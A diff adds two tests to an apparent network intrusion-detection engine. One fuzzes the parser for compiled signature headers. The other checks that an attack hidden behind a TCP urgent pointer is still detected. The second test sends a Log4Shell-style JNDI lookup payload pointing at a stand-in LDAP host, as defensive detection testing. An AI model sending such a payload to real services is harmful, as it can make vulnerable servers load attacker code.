@@ -447,3 +447,43 @@ def test_only_connections_a_stream_rule_can_cover_are_tracked(kits, tmp_path):
         c.send("a", c.data("a", b"a BAD thing"))
         assert (got(c) == b"") == tracked, port
     assert k.stats("b")["tcp_flows_opened"] == 3
+
+
+def test_hostile_header_blobs_are_refused_not_crashed():
+    """vn_sigstage_build reads a blob our compiler wrote, but bounds-checks it as if it were
+    hostile: every truncation and random corruption is refused or built, never a crash (this
+    file runs under ASan in `make test-sanitize`)."""
+    import random
+    from vhostni._fastpath import ffi, lib
+    from vhostni.signatures.rules import Vars, parse_rules
+    from vhostni.signatures.stage import encode_headers
+    rs = parse_rules(RULES, Vars({"HTTP_PORTS": "[80,8080]"}, home=["10.0.0.2", "fd00::2"]))
+    blob = encode_headers([r for r in rs.rules if r.mode == "stream"] + [r for r in rs.rules if r.mode != "stream"])
+    rc = ffi.new("int *")
+    built = 0
+    rng = random.Random(5)
+    cases = [blob[:n] for n in range(len(blob))]
+    for _ in range(3000):
+        b = bytearray(blob)
+        for _ in range(rng.randint(1, 4)):
+            b[rng.randrange(len(b))] = rng.randrange(256)
+        cases.append(bytes(b))
+    cases.append(b"VSH1" + (70000).to_bytes(4, "little"))
+    for b in cases:
+        st = lib.vn_sigstage_build(b, len(b), ffi.NULL, ffi.NULL, rc)
+        if st != ffi.NULL:
+            built += 1
+            lib.vn_sigstage_free(st)
+        else:
+            assert rc[0] < 0
+    assert built == 0          # without the databases its stream and packet rules need, never built
+
+
+def test_attack_behind_an_urgent_pointer_is_seen_in_the_stream(sk):
+    """A receiver could pull the urgent byte out of the stream (SO_OOBINLINE off) and so
+    read other bytes than were scanned; the engine clears URG: the byte stays where it was scanned."""
+    from tcpkit import URG, PSH
+    c = conn(sk)
+    c.send("a", c.data("a", b"x${jndi:ldap://e/}", flags=ACK | PSH | URG, urg=2))
+    assert got(c, wait=0.6) == b"" and sig_alerts(sk, 101)
+    assert sk.stats("b")["tcp_urg_cleared"] == 1
